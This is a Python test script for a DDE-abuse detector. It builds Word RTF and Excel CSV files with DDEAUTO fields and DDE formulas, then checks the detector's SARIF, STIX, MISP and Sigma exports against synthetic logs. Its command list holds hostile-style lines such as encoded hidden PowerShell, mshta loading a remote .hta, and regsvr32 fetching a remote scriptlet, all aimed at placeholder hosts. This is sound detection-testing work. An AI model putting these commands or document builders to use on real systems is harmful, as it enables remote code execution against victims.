#!/usr/bin/env python3
"""Checks the exports with programs that know nothing of this one.

    check-exports.py DDETECT CORPUS SARIF_SCHEMA WORK_FOLDER

Every document of the corpus, and documents made here whose commands are full of what the formats
give a meaning to, are exported in every format, alone and together:

- SARIF: the schema of the standard (jsonschema), and that every index leads where it says
- STIX: stix2-validator, references enforced, which also parses the patterns
- MISP: pymisp, strict about the templates of its objects
- Sigma: PyYAML and pySigma read the rules back; pySigma's SQLite backend runs them over a file of
  events in which chains are planted: they find these and nothing else

The packages are those that .ci/exports installs.
"""

import collections
import csv
import io
import json
import os
import random
import re
import sqlite3
import subprocess
import sys
import warnings
from pathlib import Path

import jsonschema
import yaml
from pymisp import MISPEvent
from sigma.backends.sqlite import sqliteBackend
from sigma.collection import SigmaCollection
from sigma.plugins import InstalledSigmaPlugins
from sigma.validation import SigmaValidator
from stix2validator import ValidationOptions, validate_string

MOMENT = "1795500000"
EVENTS = 100_000
# Validators that fetch lists from the network, and the one that doubts that wildcards are meant to
# be text: here they are.
LEFT_OUT = {"attacktag", "d3_fendtag", "escaped_wildcard"}

# What a document asks for, and the line that a log would show. The image is the program's own name.
COMMANDS = [
    ("cmd", "/c calc.exe"),
    ("cmd", "/c echo *a?b* %TEMP% & ping -n 3 198.51.100.7"),
    ("cmd", "/c echo {0} [link](x) # no: yes - ~ | > ! @ `tick` ^& 100%"),
    ("cmd", "/c copy \\\\files.example.invalid\\share\\*.exe C:\\Users\\Public\\"),
    ("cmd", "/c echo \\* \\? \\\\* end\\"),
    ("cmd", "/c \u00e9\u00df\u4e2d\U0001f600 caf\u00e9"),
    ("powershell", "-NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
    ("mshta", "http://198.51.100.9/a.hta"),
    ("regsvr32", "/s /n /u /i:http://pay.example.invalid/x.sct scrobj.dll"),
]
PATHS = {
    "cmd": "C:\\Windows\\System32\\cmd.exe",
    "powershell": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "mshta": "C:\\Windows\\System32\\mshta.exe",
    "regsvr32": "C:\\Windows\\System32\\regsvr32.exe",
}
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"

# What Office starts on an ordinary day.
NORMAL = [
    ("splwow64.exe", "C:\\Windows\\splwow64.exe 8192"),
    ("MSOSYNC.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\MSOSYNC.EXE\""),
    ("OfficeClickToRun.exe", "OfficeClickToRun.exe /service"),
    ("WerFault.exe", "C:\\Windows\\SysWOW64\\WerFault.exe -u -p 4242 -s 1234"),
    ("chrome.exe", "\"chrome.exe\" -- \"https://intranet.example.invalid/calc?q=*\""),
    ("msedge.exe", "msedge.exe --single-argument https://www.example.invalid/"),
    ("AcroRd32.exe", "AcroRd32.exe \"C:\\Users\\ann\\Documents\\terms.pdf\""),
    ("ai.exe", "\"ai.exe\" 1f3a 40b2"),
    ("excelcnv.exe", "excelcnv.exe -Embedding"),
    ("MSOHTMED.EXE", "MSOHTMED.EXE /nologo"),
    ("FLTLDR.EXE", "FLTLDR.EXE C:\\Program Files\\Common Files\\Microsoft Shared\\GRPHFLT\\PNG32.FLT"),
    ("dw20.exe", "dw20.exe -x -s 1512"),
    ("spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe"),
    ("Teams.exe", "Teams.exe --system-initiated"),
    ("OneDrive.exe", "OneDrive.exe /background"),
    ("MSPUB.EXE", "MSPUB.EXE /n"),
    ("ONENOTEM.EXE", "ONENOTEM.EXE /tsr"),
    ("conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("dllhost.exe", "dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
    ("rundll32.exe", "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie intranet http://intranet/"),
    ("cmd.exe", "cmd.exe /d /s /c \"ver\""),
    ("powershell.exe", "powershell.exe -File C:\\IT\\inventory.ps1"),
    ("mshta.exe", "mshta.exe C:\\IT\\about.hta"),
    ("regsvr32.exe", "regsvr32.exe /s C:\\Program Files\\Addin\\addin.dll"),
]

WORD_USER = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Word\\"
EXCEL_USER = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Excel\\"
WORD_POLICY = "HKU\\S-1-5-21-1\\Software\\Policies\\Microsoft\\Office\\16.0\\word\\"
EXCEL_POLICY = "HKU\\S-1-5-21-1\\Software\\Policies\\Microsoft\\Office\\16.0\\excel\\"
REGISTRY_PLANTED = [
    (WORD_USER + "Security\\AllowDDE", 1),
    (WORD_USER + "Security\\AllowDDE", 2),
    (WORD_POLICY + "security\\allowdde", 2),
    (WORD_USER + "Options\\DontUpdateLinks", 0),
    (WORD_USER + "Options\\WordMail\\DontUpdateLinks", 0),
    (EXCEL_USER + "Security\\DisableDDEServerLaunch", 0),
    (EXCEL_USER + "Security\\DisableDDEServerLookup", 0),
    (EXCEL_POLICY + "security\\external content\\disableddeserverlaunch", 0),
    (EXCEL_POLICY + "security\\external content\\disableddeserverlookup", 0),
    (EXCEL_USER + "Options\\DDEAllowed", 1),
]
REGISTRY_NORMAL = [
    (WORD_USER + "Security\\AllowDDE", 0),
    (WORD_POLICY + "security\\allowdde", 0),
    (EXCEL_USER + "Security\\DisableDDEServerLaunch", 1),
    (EXCEL_POLICY + "security\\external content\\disableddeserverlaunch", 1),
    (EXCEL_USER + "Options\\DDEAllowed", 0),
    (WORD_USER + "Options\\DontUpdateLinks", 1),
    (EXCEL_USER + "Options\\Pos", 1),
    ("HKU\\S-1-5-21-1\\Software\\Other\\Word\\Security\\AllowDDE", 2),
]


def rtf(service, topic):
    """A Word document with a field. Backslashes are doubled for the field, then for RTF."""
    topic = topic.replace("\\", "\\\\").replace('"', '\\"')
    text = f'DDEAUTO {service} "{topic}"'
    out = []
    for c in text:
        if c in "\\{}":
            out.append("\\" + c)
        elif ord(c) < 128:
            out.append(c)
        else:
            data = c.encode("utf-16-le")
            units = [int.from_bytes(data[at : at + 2], "little", signed=True) for at in range(0, len(data), 2)]
            out.extend(f"\\u{unit}?" for unit in units)
    field = "".join(out)
    return f"{{\\rtf1\\ansi{{\\field{{\\*\\fldinst {field} }}{{\\fldrslt x}}}}}}".encode("ascii")


def table(service, topic):
    """A text that Excel opens, with a formula."""
    out = io.StringIO()
    topic = topic.replace("'", "''")
    csv.writer(out).writerow(["a", f"={service}|'{topic}'!A1", "b"])
    return out.getvalue().encode("utf-8")


def run(*arguments):
    environment = dict(os.environ, SOURCE_DATE_EPOCH=MOMENT)
    done = subprocess.run(arguments, capture_output=True, env=environment, check=False)
    assert done.returncode in (0, 1, 2), (arguments, done)
    assert not done.stderr, (arguments, done.stderr)
    return done.stdout.decode("utf-8")


def check_sarif(text, validator):
    log = json.loads(text)
    errors = [f"{list(error.path)}: {error.message}" for error in validator.iter_errors(log)]
    assert not errors, errors[:5]
    (one,) = log["runs"]
    artifacts = one["artifacts"]
    for index, artifact in enumerate(artifacts):
        assert artifact.get("parentIndex", -1) < index
    rules = one["tool"]["driver"]["rules"]
    for result in one["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        for taxon in result.get("taxa", []):
            assert one["taxonomies"][0]["taxa"][taxon["index"]]["id"] == taxon["id"]
        (location,) = result["locations"]
        place = location["physicalLocation"]["artifactLocation"]
        assert artifacts[place["index"]]["location"]["uri"] == place["uri"]
    return len(one["results"])


def check_stix(text):
    found = validate_string(text, ValidationOptions(version="2.1", enforce_refs=True))
    errors = [str(error) for error in found.errors]
    assert found.is_valid and not errors, errors[:5]
    bundle = json.loads(text)
    ids = [one["id"] for one in bundle["objects"]]
    assert len(ids) == len(set(ids))
    assert not any(one["type"] == "process" for one in bundle["objects"])
    return len(ids)


def check_misp(text):
    event = MISPEvent(strict_validation=True)
    event.load(json.loads(text))
    known = {one for attribute in event.attributes for one in [attribute.type]}
    assert known <= set(event.describe_types["types"]), known
    for one in event.objects:
        # Raises if what the template requires is not there.
        one._validate()
        assert one._known_template, one.name
        for attribute in one.attributes:
            definition = one._definition["attributes"][attribute.object_relation]
            assert definition["misp-attribute"] == attribute.type, attribute.object_relation
    for attribute in [*event.attributes, *(a for one in event.objects for a in one.attributes)]:
        allowed = event.describe_types["category_type_mappings"][attribute.category]
        assert attribute.type in allowed, (attribute.category, attribute.type)
    return len(event.objects)


def check_sigma(text):
    rules = SigmaCollection.from_yaml(text)
    for rule in rules.rules:
        assert not rule.errors, rule.errors
    for document in yaml.safe_load_all(text):
        assert isinstance(document["detection"], dict)
    validators = InstalledSigmaPlugins.autodiscover().validators
    usable = {name: one for name, one in validators.items() if name not in LEFT_OUT}
    issues = [str(issue) for issue in SigmaValidator(usable.values()).validate_rules(rules.rules)]
    assert not issues, issues[:5]
    return rules


def events(planted):
    """Rows: (planted or not, EventID, ParentImage, Image, CommandLine, TargetObject, Details)."""
    pick = random.Random(7)
    rows = []
    for program, (service, topic) in planted:
        line = f"{PATHS[service]} {topic}"
        rows.append((1, 1, OFFICE + program, PATHS[service], line, None, None))
        # The engine folds the letters of ASCII alone.
        shouted = re.sub("[a-z]+", lambda word: word[0].upper(), topic)
        quoted = f'"{PATHS[service]}"  {shouted}'
        rows.append((1, 1, OFFICE.upper() + program.lower(), PATHS[service].upper(), quoted, None, None))
        # The same from a program that is not Office, and from Office with half of it.
        rows.append((0, 1, "C:\\Windows\\explorer.exe", PATHS[service], line, None, None))
        rows.append((0, 1, OFFICE + "notWINWORD.EXE.txt", PATHS[service], line, None, None))
        rows.append((0, 1, OFFICE + program, PATHS[service], PATHS[service], None, None))
        rows.append((0, 1, OFFICE + program, "C:\\x\\my" + service + ".exe", line, None, None))
    for key, value in REGISTRY_PLANTED:
        rows.append((1, 13, None, "C:\\Windows\\regedit.exe", None, key, f"DWORD (0x{value:08x})"))
    for key, value in REGISTRY_NORMAL:
        rows.append((0, 13, None, "C:\\Windows\\regedit.exe", None, key, f"DWORD (0x{value:08x})"))
    parents = ["WINWORD.EXE", "EXCEL.EXE", "POWERPNT.EXE", "OUTLOOK.EXE"]
    while len(rows) < EVENTS:
        image, line = pick.choice(NORMAL)
        line = f"{line} {pick.randrange(10**6)}" if pick.random() < 0.5 else line
        rows.append((0, 1, OFFICE + pick.choice(parents), "C:\\Windows\\System32\\" + image, line, None, None))
    pick.shuffle(rows)
    return rows


def matches(rules, rows):
    """The numbers of the rows that the rules hit, and how many hits each rule has."""
    base = sqlite3.connect(":memory:")
    fields = "ParentImage, Image, CommandLine, TargetObject, Details"
    base.execute(f"CREATE TABLE logs (number INTEGER, EventID INTEGER, {fields})")
    values = ((number, *row[1:]) for number, row in enumerate(rows))
    base.executemany("INSERT INTO logs VALUES (?, ?, ?, ?, ?, ?, ?)", values)
    hits, each = set(), collections.Counter()
    for rule in rules.rules:
        (query,) = sqliteBackend().convert_rule(rule)
        query = query.replace("<TABLE_NAME>", "logs")
        query = re.sub(r"^SELECT \*", "SELECT number", query)
        found = {number for (number,) in base.execute(query)}
        each[rule.title] += len(found)
        hits |= found
    return hits, each


def main():
    warnings.simplefilter("ignore")
    program, corpus, schema, work = sys.argv[1:]
    schema = json.loads(Path(schema).read_text(encoding="utf-8"))
    validator = jsonschema.validators.validator_for(schema)(schema)
    made = Path(work) / "documents"
    made.mkdir(parents=True, exist_ok=True)
    planted = []
    for number, (service, topic) in enumerate(COMMANDS):
        (made / f"field {number} [x]{{0}}.rtf").write_bytes(rtf(service, topic))
        planted.append(("WINWORD.EXE", (service, topic)))
        (made / f"table-{number}.csv").write_bytes(table(service, topic))
        planted.append(("EXCEL.EXE", (service, topic)))
    documents = [path for path in sorted(Path(corpus).rglob("*")) if path.is_file()]
    documents = [path for path in documents if path.suffix not in (".json", ".md")]
    documents += sorted(made.iterdir())
    assert len(documents) >= 20
    counts = collections.Counter()

    def check(paths):
        texts = {}
        for form in ("sarif", "stix", "misp", "sigma"):
            texts[form] = run(program, "scan", "--format", form, *map(str, paths))
        counts["SARIF results"] += check_sarif(texts["sarif"], validator)
        counts["STIX objects"] += check_stix(texts["stix"])
        counts["MISP objects"] += check_misp(texts["misp"])
        rules = check_sigma(texts["sigma"])
        counts["Sigma rules"] += len(rules.rules)
        return texts, rules

    for document in documents:
        try:
            check([document])
        except Exception as error:
            raise AssertionError(f"{document}: {error}") from error
    counts["documents"] = len(documents)
    texts, _ = check(documents)
    assert texts == check(documents)[0], "not the same twice"

    texts, rules = check(sorted(made.iterdir()))
    rows = events(planted)
    hits, each = matches(rules, rows)
    wanted = {number for number, row in enumerate(rows) if row[0]}
    for number in sorted(wanted - hits):
        print("missed:", rows[number])
    for number in sorted(hits - wanted)[:10]:
        print("wrong:", rows[number])
    assert hits == wanted
    assert all(each.values()), each
    print(", ".join(f"{number} {name}" for name, number in sorted(counts.items())))
    print(f"{len(rules.rules)} Sigma rules over {len(rows)} events: {len(hits)} hits, all {len(wanted)} planted")


if __name__ == "__main__":
    main()
